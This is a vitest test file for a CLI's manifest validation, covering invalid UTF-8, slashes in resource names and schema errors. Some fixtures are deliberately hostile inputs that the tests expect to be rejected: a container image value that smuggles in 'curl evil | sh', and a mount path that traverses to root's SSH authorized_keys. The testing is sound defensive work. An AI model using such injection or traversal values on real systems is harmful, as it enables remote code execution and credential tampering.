/**
 * Input the CLI refuses before anything is sent (issue 19, finding 8): manifests that are not UTF-8, NAME
 * arguments with a `/`, and schema violations reported with file, line and field.
 */
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { validate } from '../../../src/api/validate.js';
import { UsageError } from '../../../src/cli/errors.js';
import {
  checkManifest,
  decodeUtf8,
  firstInvalidUtf8,
  formatManifestError,
  parseSources,
  readSources,
} from '../../../src/cli/manifests.js';
import { checkNames } from '../../../src/cli/resources.js';
import { OperationError } from '../../../src/services/errors.js';

const bytes = (...parts: (string | number[])[]) =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));

describe('UTF-8 manifests', () => {
  it('finds the first byte that is not well-formed UTF-8', () => {
    expect(firstInvalidUtf8(bytes('plain ascii'))).toBe(-1);
    expect(firstInvalidUtf8(bytes('naïve – 東京 😀'))).toBe(-1);
    expect(firstInvalidUtf8(bytes('ab', [0xff]))).toBe(2); // never valid
    expect(firstInvalidUtf8(bytes('a', [0xc3]))).toBe(1); // truncated
    expect(firstInvalidUtf8(bytes('a', [0xc3, 0x41]))).toBe(1); // bad continuation
    expect(firstInvalidUtf8(bytes([0xc0, 0xaf]))).toBe(0); // overlong '/'
    expect(firstInvalidUtf8(bytes([0xe0, 0x80, 0xaf]))).toBe(0); // overlong 3-byte
    expect(firstInvalidUtf8(bytes([0xed, 0xa0, 0x80]))).toBe(0); // UTF-16 surrogate
    expect(firstInvalidUtf8(bytes([0xf4, 0x90, 0x80, 0x80]))).toBe(0); // above U+10FFFF
  });

  it('refuses invalid UTF-8 with file, line and column instead of replacing it', () => {
    const doc = bytes(
      'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\ndata:\n  k: "ab',
      [0xff],
      '"\n',
    );
    expect(() => decodeUtf8('cm.yaml', doc)).toThrow(OperationError);
    expect(() => decodeUtf8('cm.yaml', doc)).toThrow(/^cm\.yaml:6:9: invalid UTF-8 \(byte 0xff\)/);
    expect(decodeUtf8('ok.yaml', bytes('a: "ü"\n'))).toBe('a: "ü"\n');
  });

  it('readSources refuses such a file, a directory entry and stdin', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'choreoctl-utf8-'));
    const file = join(dir, 'bad.yaml');
    await writeFile(file, bytes('kind: Project\nmetadata:\n  name: caf', [0xe9], '\n'));
    const stdin = Readable.from([]);
    await expect(readSources([file], { recursive: false, stdin })).rejects.toThrow(
      `${file}:3:12: invalid UTF-8 (byte 0xe9)`,
    );
    await expect(readSources([dir], { recursive: false, stdin })).rejects.toThrow(
      /bad\.yaml:3:12: invalid UTF-8/,
    );
    await expect(
      readSources(['-'], { recursive: false, stdin: Readable.from([bytes('a: ', [0x80])]) }),
    ).rejects.toThrow('STDIN:1:4: invalid UTF-8 (byte 0x80)');
  });
});

describe('NAME arguments', () => {
  it('refuses a / in a name (it would address a subresource) and an empty name', () => {
    expect(() => checkNames(['default/status'], 'choreoctl get')).toThrow(UsageError);
    expect(() => checkNames(['default/status'], 'choreoctl get')).toThrow(
      'arguments in resource/name form may not have more than one slash: "default/status"',
    );
    expect(() => checkNames([''], 'choreoctl delete')).toThrow('resource name may not be empty');
    expect(() => checkNames(['default', 'shop'], 'choreoctl describe')).not.toThrow();
  });
});

describe('finding-8 examples are refused client-side with file, line and field', () => {
  const check = (text: string) => {
    const { manifests, errors } = parseSources([{ name: 'app.yaml', text }]);
    return [...errors, ...manifests.flatMap((m) => checkManifest(m, validate))].map(formatManifestError);
  };
  const workload = (container: string) =>
    `apiVersion: openchoreo.dev/v1alpha1
kind: Workload
metadata:
  name: orders
spec:
  owner: {projectName: shop, componentName: orders}
  containers:
${container}`;

  it('an image reference with shell text', () => {
    const errs = check(workload('    main:\n      image: "nginx; curl evil | sh"\n'));
    expect(errs).toEqual([
      expect.stringMatching(
        /^app\.yaml:9:7: Workload\/orders: spec\.containers\.main\.image: Invalid value: .*should match/,
      ),
    ]);
  });
  it('a container key that is not a DNS label', () => {
    const errs = check(workload('    Main_C:\n      image: nginx\n'));
    expect(errs).toEqual([
      expect.stringMatching(
        /^app\.yaml:7:3: .*spec\.containers: Invalid value: "Main_C": keys must be DNS-1123 labels/,
      ),
    ]);
  });
  it('an injected env name that is not a variable name', () => {
    const errs = check(`${workload('    main:\n      image: nginx\n')}  connections:
    db:
      type: external
      host: db.example
      ports: [5432]
      inject:
        env:
          - {name: "DB HOST", value: "{{ .host }}"}
`);
    expect(errs).toEqual([
      expect.stringMatching(
        /^app\.yaml:17:\d+: .*spec\.connections\.db\.inject\.env\[0\]\.name: .*should match/,
      ),
    ]);
  });
  it('a cron expression out of range, a mount path with .., replicas beyond int32', () => {
    const errs = check(`apiVersion: openchoreo.dev/v1alpha1
kind: ScheduledTaskClass
metadata:
  name: nightly
spec:
  cronJobTemplate:
    schedule: "0 25 * * *"
---
apiVersion: openchoreo.dev/v1alpha1
kind: DeployableArtifact
metadata:
  name: a
spec:
  targetArtifact: {fromBuildRef: {name: b}}
  configuration:
    application:
      fileMounts:
        - {mountPath: /etc/../../root/.ssh/authorized_keys, value: x}
---
apiVersion: openchoreo.dev/v1alpha1
kind: ServiceClass
metadata:
  name: big
spec:
  deploymentTemplate:
    replicas: 4294967296
`);
    expect(errs).toEqual([
      expect.stringMatching(
        /^app\.yaml:7:5: ScheduledTaskClass\/nightly: spec\.cronJobTemplate\.schedule: .*should match/,
      ),
      expect.stringMatching(
        /^app\.yaml:18:\d+: DeployableArtifact\/a: spec\.configuration\.application\.fileMounts\[0\]\.mountPath: .*should match/,
      ),
      expect.stringMatching(
        /^app\.yaml:26:5: ServiceClass\/big: spec\.deploymentTemplate\.replicas: .*less than or equal to 2147483647/,
      ),
    ]);
  });
  it('a class template of the wrong shape (containers as a map)', () => {
    const errs = check(`apiVersion: openchoreo.dev/v1alpha1
kind: ServiceClass
metadata:
  name: odd
spec:
  deploymentTemplate:
    template:
      spec:
        containers:
          main: {image: nginx}
`);
    expect(errs).toEqual([
      expect.stringMatching(
        /^app\.yaml:9:9: ServiceClass\/odd: spec\.deploymentTemplate\.template\.spec\.containers: .*must be of type array/,
      ),
    ]);
  });
});
